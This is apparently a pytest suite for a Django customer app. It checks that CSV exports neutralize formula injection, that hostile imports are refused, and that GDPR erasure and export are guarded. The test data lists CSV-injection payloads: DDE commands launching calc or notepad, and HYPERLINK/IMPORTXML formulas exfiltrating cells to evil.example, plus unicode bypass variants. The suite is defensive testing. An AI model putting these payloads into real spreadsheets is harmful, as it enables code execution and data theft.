"""Abuse suite, customer data: CSV formula cells in every exported column, hostile CSV imports, hostile GDPR requests.

Each parametrize id is one hostile input with its expected outcome: neutralized (the exported cell starts with a
quote and imports back to the stored value), refused with a clear per-line error, or stored exactly once.
"""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from typing import Any

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.utils.translation import override

from customers import csv_io, gdpr
from customers.merge import merge_customers
from customers.models import Customer, ErasureRecord, Identity, Organization
from tests.clients import logged_in

pytestmark = pytest.mark.django_db

# --- export: a formula in every column is neutralized -----------------------------------------------------------

FORMULAS = {
    "dde-cmd-calc": "=cmd|' /C calc'!A0",
    "plus-arithmetic": "+1+1",
    "minus-arithmetic": "-2+3",
    "at-sum": "@SUM(1)",
    "at-sum-dde": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab-prefixed": "\t=1+1",
    "cr-prefixed": "\r=1+1",
    "lf-prefixed": "\n=1+1",
    "leading-spaces": "   =1+1",
    "leading-nbsp": "\u00a0=1+1",
    "leading-zero-width-space": "\u200b=1+1",
    "leading-bom": "\ufeff=1+1",
    "fullwidth-equals": "\uff1d1+1",
    "fullwidth-plus": "\uff0b1",
    "fullwidth-minus": "\uff0d1",
    "fullwidth-at": "\uff20SUM(1)",
    "small-equals": "\ufe661+1",
    "unicode-minus-sign": "\u22121+1",
    "hyperlink-exfiltration": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "dde-function": '=DDE("cmd";"/C calc";"!A0")',
    "minus-dde-notepad": "-3+3+cmd|' /C notepad'!'B1'",
    "importxml-exfiltration": '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
    "already-quoted-formula": "'=1+1",
}


def customer_with_everywhere(payload: str) -> Customer:
    """A customer whose every exported column holds `payload` (identities written as an inbound message could)."""
    organization = Organization.objects.create(name=payload)
    customer = Customer.objects.create(
        display_name=payload,
        language=payload[:16],
        segment=payload,
        organization=organization,
        attributes={"note": payload, payload: "key"},
    )
    Customer.objects.filter(pk=customer.pk).update(value_tier=payload[:16])
    Identity.objects.create(customer=customer, kind=Identity.Kind.EMAIL, address=payload + "@example.com")
    Identity.objects.create(customer=customer, kind=Identity.Kind.PHONE, address=payload)
    return customer


@pytest.mark.parametrize("payload", FORMULAS.values(), ids=FORMULAS.keys())
def test_it_neutralizes_the_formula_in_every_exported_column(sophie: Any, payload: str) -> None:
    customer_with_everywhere(payload)

    header, row = list(csv.reader(io.StringIO(csv_io.export_customers(user=sophie))))

    expected = {
        "display_name": payload,
        "email": payload + "@example.com",
        "phone": payload,
        "language": payload[:16],
        "segment": payload,
        "value_tier": payload[:16],
        "organization": payload,
        "attr:note": payload,
    }
    cells = dict(zip(header, row, strict=True))
    assert cells[f"attr:{payload}"] == "key"  # a formula as an attribute key stays behind the "attr:" prefix
    for column, value in expected.items():
        cell = cells[column]
        # Shown as text by a spreadsheet: the cell starts with a quote…
        assert cell == "'" + value, column
        # …and the import reads the stored value back (trimmed, as every imported cell is).
        assert csv_io._unquote(cell) == value.strip(), column
    assert all(not csv_io.needs_quote(name) for name in header if not name.startswith("attr:"))


def test_it_leaves_harmless_cells_alone(sophie: Any) -> None:
    customer_with_everywhere("Zoé 1+1=2")
    header, row = list(csv.reader(io.StringIO(csv_io.export_customers(user=sophie))))
    assert dict(zip(header, row, strict=True))["display_name"] == "Zoé 1+1=2"


# --- import: hostile files -----------------------------------------------------------------------------------------

HEADER = "display_name,email,phone,attr:note\n"


@dataclass(frozen=True)
class Hostile:
    content: str
    created: int
    errors: dict[int, str]  # line → a field name of its error, or a piece of its message


HOSTILE_IMPORTS = {
    "huge-field-over-the-csv-limit": Hostile(
        HEADER + f"Big,big@example.com,,{'x' * 200_000}\nOk,ok@example.com,,\n", 1, {2: "cannot be read as CSV"}
    ),
    "display-name-over-200-characters": Hostile(HEADER + f"{'N' * 201},n@example.com,,\n", 0, {2: "display_name"}),
    "nul-byte-in-name": Hostile(HEADER + "Zo\x00e,nul@example.com,,\nOk,ok@example.com,,\n", 1, {2: "NUL"}),
    "nul-byte-in-email": Hostile(HEADER + "Zoe,nul\x00@example.com,,\n", 0, {2: "NUL"}),
    "nul-byte-in-attribute": Hostile(HEADER + "Zoe,attr@example.com,,a\x00b\n", 0, {2: "NUL"}),
    "quote-inside-a-quoted-field": Hostile(
        HEADER + 'Zoe,"zoe@example.com"x,,\nOk,ok@example.com,,\n', 1, {2: "cannot be read as CSV"}
    ),
    "unterminated-quote": Hostile(
        HEADER + 'Ok,ok@example.com,,\n"Zoe,zoe@example.com,,\nLost,lost@example.com,,\n', 1, {3: "quotes"}
    ),
    "bom-before-the-header": Hostile("\ufeff" + HEADER + "Zoe,zoe@example.com,,\n", 1, {}),
    "formula-in-email": Hostile(HEADER + 'Zoe,"=HYPERLINK(""http://evil.example"")",,\n', 0, {2: "email"}),
    "formula-shaped-valid-email": Hostile(HEADER + "Zoe,=1+1@example.com,,\n", 0, {2: "formula"}),
    "tab-then-formula-in-email": Hostile(HEADER + '"Zoe","\t=1+1@example.com",,\n', 0, {2: "formula"}),
    "fullwidth-formula-in-email": Hostile(HEADER + "Zoe,\uff1dx@example.com,,\n", 0, {2: "formula"}),
    "formula-in-phone": Hostile(HEADER + "Zoe,,=0612345678,\n", 0, {2: "phone"}),
    "at-sign-before-a-valid-phone": Hostile(HEADER + "Zoe,,@0612345678,\n", 0, {2: "phone"}),
    "minus-before-a-valid-phone": Hostile(HEADER + "Zoe,,-0612345678,\n", 0, {2: "phone"}),
    "plus-arithmetic-in-phone": Hostile(HEADER + "Zoe,,+1+1,\n", 0, {2: "phone"}),
    "dde-in-phone": Hostile(HEADER + "Zoe,,\"=cmd|' /C calc'!A0\",\n", 0, {2: "phone"}),
    "line-break-in-name": Hostile(HEADER + '"Zoe\nLambertini",lb@example.com,,\n', 0, {2: "line break"}),
    "carriage-return-in-email": Hostile(HEADER + '"Zoe","cr@example.com\r=1+1",,\n', 0, {2: "email"}),
    "duplicate-rows": Hostile(HEADER + "Zoe,zoe@example.com,,\nZoe,zoe@example.com,,\n", 1, {}),
    "same-phone-national-and-international": Hostile(
        HEADER + "Zoe,,06 12 34 56 78,\nZoe,,+33612345678,\nZoe,,'+33612345678,\n", 1, {}
    ),
    "header-repeated-in-the-middle": Hostile(HEADER + "Zoe,zoe@example.com,,\n" + HEADER, 1, {3: "phone"}),
    "header-without-email-or-phone": Hostile("name,city\nZoe,Lyon\n", 0, {1: "header line"}),
    "empty-file": Hostile("", 0, {1: "header line"}),
    "attributes-over-the-size-limit": Hostile(
        HEADER + f'Zoe,big-attr@example.com,,"{"é" * 40_000}"\n', 0, {2: "attributes"}
    ),
}


@pytest.mark.parametrize("hostile", HOSTILE_IMPORTS.values(), ids=HOSTILE_IMPORTS.keys())
def test_it_refuses_or_stores_once_a_hostile_import(hostile: Hostile) -> None:
    with override("en"):
        summary = csv_io.import_customers(content=hostile.content)

    assert summary.created == hostile.created == Customer.objects.count()
    assert {error["line"] for error in summary.errors} == set(hostile.errors)
    for error in summary.errors:
        described = repr(error["errors"])
        assert hostile.errors[error["line"]] in described, described


def test_it_stores_a_formula_in_a_name_as_text_and_exports_it_neutralized(sophie: Any) -> None:
    csv_io.import_customers(content=HEADER + "\"=cmd|' /C calc'!A0\",zoe@example.com,,\n")

    assert Customer.objects.get().display_name == "=cmd|' /C calc'!A0"
    exported = csv_io.export_customers(user=sophie)
    assert "'=cmd|' /C calc'!A0" in exported
    again = csv_io.import_customers(content=exported)
    assert (again.created, again.updated, again.unchanged) == (0, 0, 1)
    assert Customer.objects.get().display_name == "=cmd|' /C calc'!A0"


ENCODINGS = {
    "latin-1": ("display_name,email\nZoé,zoe@example.com\n".encode("latin-1"), None),
    "windows-1252-smart-quotes": ("display_name,email\n\u201cZoe\u201d,zoe@example.com\n".encode("cp1252"), None),
    "utf-16-with-bom": ("display_name,email\nZoé,zoe@example.com\n".encode("utf-16"), "Zoé"),
    "utf-8-with-bom": ("display_name,email\nZoé,zoe@example.com\n".encode("utf-8-sig"), "Zoé"),
    "binary-garbage": (b"\x89PNG\r\n\x1a\n\xff\xfe\xfd", None),
}


@pytest.mark.parametrize(("raw", "name"), ENCODINGS.values(), ids=ENCODINGS.keys())
def test_it_decodes_utf8_and_utf16_and_refuses_other_encodings(raw: bytes, name: str | None) -> None:
    if name is None:
        with override("en"), pytest.raises(ValidationError, match="encoded in UTF-8"):
            csv_io.decode_csv(raw)
        return
    csv_io.import_customers(content=csv_io.decode_csv(raw))
    assert Customer.objects.get().display_name == name


# --- hostile GDPR requests -----------------------------------------------------------------------------------------


@pytest.fixture
def zoe(db: None) -> Customer:
    customer = Customer.objects.create(display_name="Zoé Lambertini")
    Identity.objects.create(customer=customer, kind=Identity.Kind.EMAIL, address="zoe@example.com")
    return customer


def test_it_erases_twice_without_harm(sophie: Any, zoe: Customer) -> None:
    first = gdpr.erase_customer(customer=zoe, by=sophie)
    second = gdpr.erase_customer(customer=zoe, by=sophie)
    assert (first.counts["identities"], second.counts["identities"]) == (1, 0)
    zoe.refresh_from_db()
    assert zoe.display_name == "" and zoe.erased_at == second.erased_at


def test_it_refuses_to_erase_a_merged_away_customer(sophie: Any, zoe: Customer) -> None:
    survivor = Customer.objects.create(display_name="Zoé L.")
    merge_customers(source=zoe, target=survivor, by=sophie)
    with pytest.raises(ValidationError) as refused:
        gdpr.erase_customer(customer=zoe, by=sophie)
    assert refused.value.code == "merged"
    assert not ErasureRecord.objects.exists()


@pytest.mark.parametrize("verb", ["export", "erase"])
def test_it_refuses_an_agent(verb: str, alice: Any, zoe: Customer) -> None:
    with pytest.raises(PermissionDenied):
        getattr(gdpr, {"export": "export_customer_data", "erase": "erase_customer"}[verb])(customer=zoe, by=alice)
    assert Customer.objects.get(pk=zoe.pk).display_name == "Zoé Lambertini"


def test_it_refuses_an_anonymous_export(zoe: Customer) -> None:
    from django.contrib.auth.models import AnonymousUser

    with pytest.raises(PermissionDenied):
        gdpr.export_customer_data(customer=zoe, by=AnonymousUser())


def test_it_answers_403_to_an_agent_asking_the_export_over_http(alice: Any, zoe: Customer) -> None:
    assert logged_in("alice").get(f"/customers/{zoe.pk}/export.json").status_code == 403


def test_it_answers_403_to_an_agent_asking_the_erasure_over_http(alice: Any, zoe: Customer) -> None:
    assert logged_in("alice").post(f"/customers/{zoe.pk}/erase/", {"confirm": "on"}).status_code == 403
    assert not ErasureRecord.objects.exists()


def test_it_exports_nothing_personal_after_erasure(sophie: Any, zoe: Customer) -> None:
    gdpr.erase_customer(customer=zoe, by=sophie)
    data = gdpr.export_customer_data(customer=zoe, by=sophie)
    assert "Lambertini" not in repr(data) and "zoe@example.com" not in repr(data)
    assert data["identities"] == [] and data["profile"]["erased_at"]


def test_it_opens_a_new_customer_when_the_erased_visitors_browser_chats_again(
    sophie: Any, chat_channel: Any, zoe: Customer
) -> None:
    from tests.factories import widget_message

    Identity.objects.create(customer=zoe, kind=Identity.Kind.WIDGET, address="zoe-browser")
    gdpr.erase_customer(customer=zoe, by=sophie)

    again = widget_message(chat_channel, visitor="zoe-browser", text="Re-bonjour")

    assert again.customer_id != zoe.pk
    zoe.refresh_from_db()
    assert zoe.display_name == "" and not zoe.identities.exists()


def test_it_does_not_store_again_an_sms_redelivered_after_erasure(sophie: Any, support_queue: Any) -> None:
    from interactions.messaging import twilio
    from interactions.models import Channel, Interaction
    from tests.messaging_support import ingest, make_channel, twilio_sms

    sms = make_channel(Channel.Kind.SMS, support_queue)
    params = twilio_sms("SMredelivered", sender="+33612345678", body="Zoé Lambertini")
    [message] = ingest(sms, "twilio", twilio.events_from_params(params))
    gdpr.erase_customer(customer=message.customer, by=sophie)

    assert ingest(sms, "twilio", twilio.events_from_params(params)) == []
    assert Interaction.objects.count() == 1
    assert Interaction.objects.get().text == ""
